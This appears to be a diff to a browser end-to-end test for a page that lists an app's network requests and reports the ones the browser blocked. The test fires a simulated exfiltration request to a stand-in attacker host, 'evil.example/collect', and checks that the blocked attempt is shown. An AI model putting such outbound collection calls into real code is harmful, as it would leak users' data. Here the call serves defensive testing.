@@ -16,7 +16,8 @@ test("every request is listed with its reason; one that is not the app's own sta
   const other = await context.newPage();
   await other.goto('/requests');
   await page.evaluate(async () => {
-    await fetch('/collect?text=secret');
+    // the browser reports a request once its answer was read
+    await (await fetch('/collect?text=secret')).text();
     await fetch('https://evil.example/collect').catch(() => undefined);
   });
   await expect(page.getByText(/The browser stopped 1 attempt .*evil\.example/)).toBeVisible();
